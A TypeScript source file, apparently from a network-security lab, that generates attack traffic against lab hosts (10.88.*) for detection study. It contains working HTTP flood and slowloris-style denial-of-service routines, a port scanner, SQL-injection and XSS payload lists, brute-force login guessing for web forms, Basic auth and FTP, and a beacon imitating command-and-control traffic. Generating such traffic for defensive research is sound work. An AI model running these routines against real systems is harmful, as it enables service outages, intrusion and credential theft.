/** Attack programs of this lab, against its own servers only: `attack.ts KIND SECONDS SEED HOST PORT`. */
import { Agent, request } from 'node:http';
import { connect } from 'node:net';
import type { Socket } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import { seededRandom } from '../../random';

const [kind = 'hulk', seconds = '10', seed = '1', host = '10.88.0.10', portText = '80'] = process.argv.slice(2);
if (!host.startsWith('10.88.')) throw new Error('Only the servers of the lab are attacked.');
const port = Number(portText);
const random = seededRandom(Number(seed) + 1000 * Number(process.env['LAB_SEED'] ?? 0));
const lastsMs = Number(seconds) * 1000 * Number(process.env['LAB_STRETCH'] ?? 1);
const end = Date.now() + lastsMs;
const going = (): boolean => Date.now() < end;
const some = (low: number, high: number): number => low + Math.floor(random() * (high - low));
const word = (length: number): string => Array.from({ length }, () => String.fromCharCode(97 + some(0, 26))).join('');

function ask(
  path: string,
  options: { agent?: Agent | false; method?: string; body?: string; headers?: Record<string, string> } = {},
): Promise<void> {
  const { agent = false, method = 'GET', body, headers = {} } = options;
  return new Promise((resolve) => {
    const asked = request({ host, port, path, agent, method, headers, timeout: 5000 }, (response) => {
      response.resume();
      response.on('close', () => resolve());
    });
    asked.on('error', () => resolve());
    asked.on('timeout', () => asked.destroy());
    asked.end(body);
  });
}

const several = (count: number, one: (i: number) => Promise<void>): Promise<unknown> =>
  Promise.all(Array.from({ length: count }, (_, i) => one(i)));

function open(first: string): Socket {
  const socket = connect(port, host);
  socket.on('error', () => socket.destroy());
  socket.write(first);
  return socket;
}

/** Keeps so many connections open, and says a little on each from time to time. */
async function hold(
  count: number,
  first: () => string,
  more: () => string,
  pauseMs: [number, number],
  reading = true,
): Promise<void> {
  const sockets = new Set<Socket>();
  while (going()) {
    while (sockets.size < count) {
      const socket = open(first());
      sockets.add(socket);
      if (!reading) socket.pause();
      else socket.resume();
      socket.on('close', () => sockets.delete(socket));
      await wait(some(5, 40));
    }
    await wait(some(...pauseMs));
    for (const socket of sockets) if (!socket.destroyed) socket.write(more());
  }
}

const sqli = ["' or 1=1 -- ", "1 union select null,name,null from users-- ", "1' and sleep(2)-- ", "1; drop table x-- ", "1 and 1=2 union all select version(),2,3", "' || (select password from users limit 1) || '"]; // prettier-ignore
const xss = ['<script>alert(1)</script>', '"><img src=x onerror=alert(document.cookie)>', '<svg onload=fetch(`//x`)>', "javascript:alert('x')", '<iframe src=javascript:alert(1)>']; // prettier-ignore
const form = (user: string): string => `username=${user}&password=${word(some(4, 12))}`;
const formHeaders = { 'content-type': 'application/x-www-form-urlencoded' };

const kinds: Record<string, () => Promise<unknown>> = {
  hulk: () =>
    several(24, async () => {
      while (going())
        await ask(`/?${word(some(3, 10))}=${word(some(3, 10))}`, {
          headers: {
            'user-agent': word(20),
            'cache-control': 'no-cache',
            referer: `http://${word(8)}/?q=${word(6)}`,
            'keep-alive': String(some(110, 120)),
            connection: 'keep-alive',
          },
        });
    }),
  goldeneye: () =>
    several(16, async () => {
      const agent = new Agent({ keepAlive: true, maxSockets: 1 });
      while (going()) {
        await ask(`/${word(4)}?${word(some(3, 20))}=${word(some(3, 20))}&${word(4)}=${word(9)}`, {
          agent,
          method: random() < 0.5 ? 'GET' : 'POST',
          headers: { 'user-agent': word(40), 'accept-encoding': 'identity', 'keep-alive': '900' },
        });
        await wait(some(0, 30));
      }
    }),
  slowloris: () =>
    hold(
      90,
      () =>
        `GET /?${some(1, 9999)} HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: Mozilla/5.0\r\nAccept-language: en-US,en\r\n`,
      () => `X-a: ${some(1, 5000)}\r\n`,
      [2500, 6000],
    ),
  slowPost: () =>
    hold(
      70,
      () =>
        `POST /upload HTTP/1.1\r\nHost: ${host}\r\nContent-Length: ${some(4000, 90_000)}\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\na=`,
      () => word(some(1, 9)),
      [1500, 5000],
    ),
  slowRead: () =>
    hold(
      60,
      () => `GET /f4000000.bin HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
      () => '',
      [1000, 3000],
      false,
    ),
  connectScan: async () => {
    const ports = Array.from({ length: 1000 }, (_, i) => i + 1).sort(() => random() - 0.5);
    for (let at = 0; going() && at < ports.length; at += 20) {
      await Promise.all(
        ports.slice(at, at + 20).map(
          (p) =>
            new Promise<void>((resolve) => {
              const socket = connect(p, host, () => {
                socket.destroy();
                resolve();
              });
              socket.on('error', () => resolve());
              setTimeout(() => {
                socket.destroy();
                resolve();
              }, 800);
            }),
        ),
      );
      await wait(some(20, 150));
    }
  },
  sqli: async () => {
    while (going()) {
      await ask(`/item?id=${encodeURIComponent(some(1, 9) + (sqli[some(0, sqli.length)] ?? ''))}`, {
        headers: { 'user-agent': 'Mozilla/5.0' },
      });
      await wait(some(30, 900));
    }
  },
  sqliKeepAlive: async () => {
    const agent = new Agent({ keepAlive: true, maxSockets: 1 });
    while (going()) {
      for (let n = some(5, 40); n > 0 && going(); n--)
        await ask(`/search?q=${encodeURIComponent(word(3) + (sqli[some(0, sqli.length)] ?? ''))}`, { agent });
      await wait(some(100, 1500));
    }
  },
  xss: async () => {
    while (going()) {
      await ask(`/search?q=${encodeURIComponent(xss[some(0, xss.length)] ?? '')}${word(3)}`, {
        headers: { 'user-agent': 'Mozilla/5.0' },
      });
      await wait(some(30, 1200));
    }
  },
  xssPost: async () => {
    const agent = new Agent({ keepAlive: true, maxSockets: 2 });
    while (going()) {
      await ask('/upload', {
        agent,
        method: 'POST',
        headers: formHeaders,
        body: `comment=${encodeURIComponent(xss[some(0, xss.length)] ?? '')}${word(some(5, 200))}`,
      });
      await wait(some(20, 600));
    }
  },
  formGuess: () =>
    several(3, async () => {
      while (going()) {
        await ask('/signin', { method: 'POST', headers: formHeaders, body: form('admin') });
        await wait(some(10, 200));
      }
    }),
  formGuessKeepAlive: () =>
    several(2, async () => {
      const agent = new Agent({ keepAlive: true, maxSockets: 1 });
      while (going()) {
        await ask('/login', { agent, method: 'POST', headers: formHeaders, body: form(word(5)) });
        await wait(some(5, 120));
      }
    }),
  basicGuess: () =>
    several(4, async () => {
      while (going()) {
        await ask('/basic/', {
          headers: { authorization: `Basic ${Buffer.from(`admin:${word(7)}`).toString('base64')}` },
        });
        await wait(some(5, 150));
      }
    }),
  ftpGuess: () =>
    several(3, async () => {
      while (going()) {
        const socket = open('');
        for (let n = some(1, 4); n > 0 && !socket.destroyed; n--) {
          await wait(some(20, 120));
          socket.write('USER ftpuser\r\n');
          await wait(some(20, 90));
          socket.write(`PASS ${word(some(4, 10))}\r\n`);
          await wait(some(120, 400));
        }
        socket.end('QUIT\r\n');
        await wait(some(20, 300));
      }
    }),
  beacon: async () => {
    const pause = some(1500, 4500);
    while (going()) {
      await ask(`/api?n=1&id=${word(8)}`, {
        method: 'POST',
        headers: { 'user-agent': 'Mozilla/4.0 (compatible)' },
        body: word(some(150, 260)),
      });
      await wait(pause * (0.9 + 0.2 * random()));
    }
  },
};

void (async () => {
  await Promise.race([kinds[kind]?.(), wait(lastsMs + 500)]);
  process.exit(0);
})();
